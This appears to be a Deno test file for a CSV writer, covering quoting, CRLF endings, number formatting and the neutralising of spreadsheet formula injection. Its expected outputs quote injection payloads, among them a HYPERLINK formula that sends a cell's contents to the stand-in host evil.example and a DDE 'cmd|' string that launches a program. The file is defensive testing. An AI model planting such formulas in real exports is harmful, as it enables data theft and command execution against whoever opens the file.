/** The one CSV writer: quoting, CRLF, and formula injection neutralised while numbers stay numbers. */
import assert from "node:assert/strict";
import { csvCell, csvLine } from "../lib/csv_writer.ts";
import { FORMULAS } from "./helpers/csv_files.ts";

Deno.test("a cell that would start a formula gets a leading apostrophe, and is quoted when it must be", () => {
  assert.deepEqual([...FORMULAS, "\r=1+1"].map(csvCell), [
    `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`,
    `"'+SUM(1,2)"`,
    "'-2+3+cmd|' /C calc'!A0",
    "'@SUM(1+1)",
    "'\t=1+1",
    `"'\r=1+1"`,
  ]);
});

Deno.test("plain numbers, even negative ones, stay numbers; other text is left as written", () => {
  assert.deepEqual(
    ["-2.5", "-7", "67", "0.08", "1e-7", -2.5, 228.69, null, "N/A", "a,b", 'say "hi"', "x\ny"].map(
      csvCell,
    ),
    [
      "-2.5",
      "-7",
      "67",
      "0.08",
      "1e-7",
      "-2.5",
      "228.69",
      "",
      "N/A",
      '"a,b"',
      '"say ""hi"""',
      '"x\ny"',
    ],
  );
  assert.equal(csvLine(["id", 1, null, "=1"]), "id,1,,'=1\r\n");
});

Deno.test("a number is written as JavaScript writes it, whatever its size or precision", () => {
  const written = "0 1 -1 67 0.08 1.32 228.69 36.6 2147483648 9007199254740994 1e-7 1.5e-10 " +
    "123456789.125 1e+21 -1e+21 5e-324 NaN Infinity -Infinity";
  const numbers = [...written.split(" ").map(Number), -0, 0.1 + 0.2, 1 / 3, Number.MAX_VALUE];
  assert.deepEqual(numbers.map(csvCell), numbers.map(String));
});
